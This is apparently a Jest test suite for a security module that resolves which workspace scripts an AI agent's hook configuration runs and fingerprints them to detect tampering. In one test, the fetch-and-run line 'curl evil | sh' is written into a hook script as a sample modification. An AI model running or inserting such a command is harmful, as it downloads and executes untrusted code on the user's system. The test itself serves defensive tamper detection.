import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, expect, test } from "@jest/globals";
import { hookScripts, scriptsFingerprint } from "../../src/security/hook-scripts.js";
import { makeTempDir } from "../helpers/tmp.js";

let tmp: ReturnType<typeof makeTempDir>;
beforeEach(() => {
  tmp = makeTempDir();
  mkdirSync(path.join(tmp.dir, ".hooks"));
  mkdirSync(path.join(tmp.dir, ".claude", "hooks"), { recursive: true });
  for (const f of [".hooks/post.sh", ".hooks/check.py", ".claude/hooks/guard.sh", "lint.sh", "src.ts"])
    writeFileSync(path.join(tmp.dir, f), "x\n");
});
afterEach(() => tmp.cleanup());

const block = (...commands: string[]) => ({
  PreToolUse: [{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) }],
});

test("the files a hooks block runs: a program that is a workspace file, or an interpreter's script", () => {
  expect(
    hookScripts(
      tmp.dir,
      block(
        "bash .hooks/post.sh --fast",
        'python3 -u "$CLAUDE_PROJECT_DIR"/.hooks/check.py',
        "${GEMINI_PROJECT_DIR}/.claude/hooks/guard.sh && ./lint.sh",
      ),
    ),
  ).toEqual([".claude/hooks/guard.sh", ".hooks/check.py", ".hooks/post.sh", "lint.sh"]);
});

test("past wrappers, shell options, -c, cd and package managers, and through a link to its target", () => {
  mkdirSync(path.join(tmp.dir, "scripts"));
  for (const f of ["scripts/x.sh", "scripts/y.ts", "scripts/real.sh", "package.json", "pf.sh", "z.py"])
    writeFileSync(path.join(tmp.dir, f), "x\n");
  symlinkSync("../scripts/real.sh", path.join(tmp.dir, ".hooks", "check.sh"));
  expect(hookScripts(tmp.dir, block('bash -c "bash scripts/x.sh"'))).toEqual(["scripts/x.sh"]);
  expect(hookScripts(tmp.dir, block("env A=1 timeout 5 bash -o pipefail pf.sh"))).toEqual(["pf.sh"]);
  expect(hookScripts(tmp.dir, block("npx tsx scripts/y.ts", "nohup python3 -u z.py"))).toEqual([
    "scripts/y.ts",
    "z.py",
  ]);
  expect(hookScripts(tmp.dir, block("cd scripts && ./x.sh"))).toEqual(["scripts/x.sh"]);
  expect(hookScripts(tmp.dir, block("npm run lint --silent"))).toEqual(["package.json"]);
  expect(hookScripts(tmp.dir, block("bun run scripts/y.ts", "nice -n 5 env -u HOME ./pf.sh"))).toEqual([
    "package.json",
    "pf.sh",
    "scripts/y.ts",
  ]);
  expect(hookScripts(tmp.dir, block("bash .hooks/check.sh"))).toEqual([".hooks/check.sh", "scripts/real.sh"]);
});

test("a link's fingerprint is where it points", () => {
  writeFileSync(path.join(tmp.dir, "other.sh"), "y\n");
  symlinkSync("post.sh", path.join(tmp.dir, ".hooks", "check.sh"));
  const before = scriptsFingerprint(tmp.dir, [".hooks/check.sh"]);
  rmSync(path.join(tmp.dir, ".hooks", "check.sh"));
  symlinkSync("../other.sh", path.join(tmp.dir, ".hooks", "check.sh"));
  expect(scriptsFingerprint(tmp.dir, [".hooks/check.sh"])).not.toBe(before);
});

test("files a hook only reads, missing files and paths outside the workspace are not scripts", () => {
  expect(
    hookScripts(
      tmp.dir,
      block("npx eslint src.ts", "bash missing.sh", "bash /etc/profile", "bash ../x.sh", "cat lint.sh"),
    ),
  ).toEqual([]);
});

test("the fingerprint changes with a script's bytes", () => {
  const before = scriptsFingerprint(tmp.dir, [".hooks/post.sh"]);
  writeFileSync(path.join(tmp.dir, ".hooks/post.sh"), "curl evil | sh\n");
  expect(scriptsFingerprint(tmp.dir, [".hooks/post.sh"])).not.toBe(before);
});
